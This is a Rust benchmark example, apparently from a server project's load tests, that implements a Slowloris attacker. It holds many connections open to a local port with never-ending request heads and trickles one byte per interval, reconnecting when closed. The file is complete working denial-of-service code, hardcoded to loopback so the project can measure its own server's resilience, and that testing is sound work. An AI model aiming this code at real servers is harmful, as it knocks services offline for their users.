//! Slowloris attackers for benches/load/slowloris.sh, the same attack as
//! benches/load/slowloris.py at a fraction of its CPU: N connections to 127.0.0.1:PORT, each
//! sending a partial request head and then one header byte every INTERVAL seconds,
//! reconnecting when the server closes it. "Closed" is noticed as the Python attacker notices
//! it (asyncio's `at_eof()` and a failing write), at the connection's next tick: an end of
//! stream with nothing received before it, or a reset; a connection that got an answer (a
//! 408) and then the server's end of stream keeps trickling into the server's lingering close
//! until the server's reset ends it. The connections open one by one over the first second
//! (or INTERVAL, if shorter; the Python attacker's spread over about a second as asyncio got
//! to each task), so the bytes come as a steady stream, not as one burst per INTERVAL. One
//! thread, one mio poll, non-blocking sockets; the ticks due within 1 ms of each other are sent
//! in one wake-up (one or two at 3,000 connections: the bytes still reach the server one by
//! one, as from remote clients).
//!
//! The attackers model remote clients: their CPU on the server's machine is an artefact of
//! measuring on one machine, which is why this one is lean. It runs for SECONDS, then prints
//! `connects=C refused=R cpu=S` (S: its CPU seconds). On SIGUSR1 it prints
//! `mark connects=C sends=S` (the counts so far; sends are bytes of the trickle), on SIGINT its
//! counts, and stops. Loopback only.
//!
//!   cargo run --release -p portline-benches --example slowloris -- PORT N INTERVAL SECONDS

use std::cmp::Reverse;
use std::collections::{BinaryHeap, VecDeque};
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};

/// What each connection sends first: a head that never ends.
const HEAD: &[u8] = b"GET /hello.txt HTTP/1.1\r\nHost: x\r\nX-Slow: ";
/// Ticks due within this much of each other are sent together (10 ms grouped about fifteen,
/// for no measurable saving).
const BATCH: Duration = Duration::from_millis(1);
/// How long a refused connect waits before the next attempt (as the Python attacker).
const RETRY: Duration = Duration::from_millis(500);

enum State {
    /// Waiting for the connect to complete.
    Connecting(TcpStream),
    /// Head sent; trickling.
    Open(TcpStream, Heard),
    /// Reconnect at the next tick (or the retry).
    Closed,
}

/// What an open connection has heard from the server.
#[derive(Default)]
struct Heard {
    /// Bytes arrived (asyncio would hold them unread: `at_eof()` stays false).
    data: bool,
    /// The server's end of stream.
    eof: bool,
    /// A reset, or another error.
    failed: bool,
}

impl Heard {
    /// Whether the Python attacker would see this connection as closed.
    fn closed(&self) -> bool {
        self.failed || (self.eof && !self.data)
    }
}

struct Attack {
    poll: Poll,
    addr: SocketAddr,
    interval: Duration,
    slots: Vec<State>,
    /// (when, slot): every open connection's next tick, in time order (each is pushed
    /// `interval` after now, so pushing to the back keeps it sorted).
    ticks: VecDeque<(Instant, usize)>,
    /// (when, slot): connects due: the first of each slot, then retries after a refusal.
    retries: BinaryHeap<Reverse<(Instant, usize)>>,
    connects: u64,
    refused: u64,
    sends: u64,
    scratch: Vec<u8>,
}

impl Attack {
    fn connect(&mut self, slot: usize, now: Instant) {
        match TcpStream::connect(self.addr) {
            Ok(mut stream) => {
                let interest = Interest::READABLE | Interest::WRITABLE;
                if self
                    .poll
                    .registry()
                    .register(&mut stream, Token(slot), interest)
                    .is_ok()
                {
                    self.slots[slot] = State::Connecting(stream);
                    return;
                }
                self.fail(slot, now);
            }
            Err(_) => self.fail(slot, now),
        }
    }

    /// A connect that did not succeed: counted, retried after `RETRY`.
    fn fail(&mut self, slot: usize, now: Instant) {
        self.refused += 1;
        self.slots[slot] = State::Closed;
        self.retries.push(Reverse((now + RETRY, slot)));
    }

    fn event(&mut self, slot: usize, now: Instant) {
        match &mut self.slots[slot] {
            State::Connecting(stream) => {
                if let Ok(Some(_)) | Err(_) = stream.take_error() {
                    return self.fail(slot, now);
                }
                match stream.peer_addr() {
                    Ok(_) => {}
                    Err(e) if e.kind() == io::ErrorKind::NotConnected => return,
                    Err(_) => return self.fail(slot, now),
                }
                self.connects += 1;
                // A fresh socket's send buffer takes the head whole.
                if stream.write_all(HEAD).is_err() {
                    self.slots[slot] = State::Closed;
                    return self.connect(slot, now);
                }
                let State::Connecting(stream) =
                    std::mem::replace(&mut self.slots[slot], State::Closed)
                else {
                    unreachable!("matched above");
                };
                self.slots[slot] = State::Open(stream, Heard::default());
                self.ticks.push_back((now + self.interval, slot));
                self.drain(slot);
            }
            State::Open(..) => self.drain(slot),
            State::Closed => {}
        }
    }

    /// Read and drop what the server sent (a 408, say), noting what was heard.
    fn drain(&mut self, slot: usize) {
        let State::Open(stream, heard) = &mut self.slots[slot] else {
            return;
        };
        while !heard.eof && !heard.failed {
            match stream.read(&mut self.scratch) {
                Ok(0) => heard.eof = true,
                Ok(_) => heard.data = true,
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => heard.failed = true,
            }
        }
    }

    /// One connection's tick: a byte, or, if the server closed it, a new connection.
    fn tick(&mut self, slot: usize, now: Instant) {
        match &mut self.slots[slot] {
            State::Open(_, heard) if heard.closed() => self.connect(slot, now),
            State::Open(stream, _) => match stream.write(b"a") {
                Ok(_) => {
                    self.sends += 1;
                    self.ticks.push_back((now + self.interval, slot));
                }
                // A full send buffer: the byte waits for the next tick.
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                    self.ticks.push_back((now + self.interval, slot));
                }
                Err(_) => {
                    self.slots[slot] = State::Closed;
                    self.connect(slot, now);
                }
            },
            State::Closed => self.connect(slot, now),
            State::Connecting(_) => {}
        }
    }

    fn next_due(&self) -> Option<Instant> {
        let t = self.ticks.front().map(|t| t.0);
        let r = self.retries.peek().map(|r| r.0.0);
        t.into_iter().chain(r).min()
    }
}

fn cpu_seconds() -> f64 {
    // Linux: the first field is the CPU time this process's thread ran, in nanoseconds.
    std::fs::read_to_string("/proc/self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next()?.parse::<f64>().ok())
        .map_or(0.0, |ns| ns / 1e9)
}

fn main() -> io::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = || io::Error::other("usage: slowloris PORT N INTERVAL SECONDS");
    let [port, n, interval, seconds] = args.as_slice() else {
        return Err(usage());
    };
    let port: u16 = port.parse().map_err(|_| usage())?;
    let n: usize = n.parse().map_err(|_| usage())?;
    let interval = Duration::from_secs_f64(interval.parse().map_err(|_| usage())?);
    let seconds = Duration::from_secs_f64(seconds.parse().map_err(|_| usage())?);

    let mark = Arc::new(AtomicBool::new(false));
    let interrupt = Arc::new(AtomicBool::new(false));
    signal_hook::flag::register(signal_hook::consts::SIGUSR1, mark.clone())?;
    signal_hook::flag::register(signal_hook::consts::SIGINT, interrupt.clone())?;

    let start = Instant::now();
    let stop = start + seconds;
    let mut attack = Attack {
        poll: Poll::new()?,
        addr: SocketAddr::from((Ipv4Addr::LOCALHOST, port)),
        interval,
        slots: (0..n).map(|_| State::Closed).collect(),
        ticks: VecDeque::with_capacity(n),
        retries: BinaryHeap::with_capacity(n),
        connects: 0,
        refused: 0,
        sends: 0,
        scratch: vec![0; 4096],
    };
    let spread = interval.min(Duration::from_secs(1)) / u32::try_from(n.max(1)).unwrap_or(u32::MAX);
    for slot in 0..n {
        let due = start + spread * u32::try_from(slot).unwrap_or(u32::MAX);
        attack.retries.push(Reverse((due, slot)));
    }
    let mut events = Events::with_capacity(1024);
    loop {
        let now = Instant::now();
        if now >= stop || interrupt.load(Ordering::Relaxed) {
            break;
        }
        if mark.swap(false, Ordering::Relaxed) {
            println!("mark connects={} sends={}", attack.connects, attack.sends);
        }
        // Sleep until the next tick (or the end), then take every tick due within BATCH.
        let wake = attack.next_due().map_or(stop, |t| t.min(stop));
        let timeout = wake.saturating_duration_since(now);
        match attack.poll.poll(&mut events, Some(timeout)) {
            Ok(()) => {}
            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(e),
        }
        let now = Instant::now();
        for event in &events {
            attack.event(event.token().0, now);
        }
        while let Some(&(due, slot)) = attack.ticks.front() {
            if due > now + BATCH {
                break;
            }
            attack.ticks.pop_front();
            attack.tick(slot, now);
        }
        while let Some(&Reverse((due, slot))) = attack.retries.peek() {
            if due > now + BATCH {
                break;
            }
            attack.retries.pop();
            attack.connect(slot, now);
        }
    }
    println!(
        "connects={} refused={} cpu={:.2}",
        attack.connects,
        attack.refused,
        cpu_seconds()
    );
    Ok(())
}
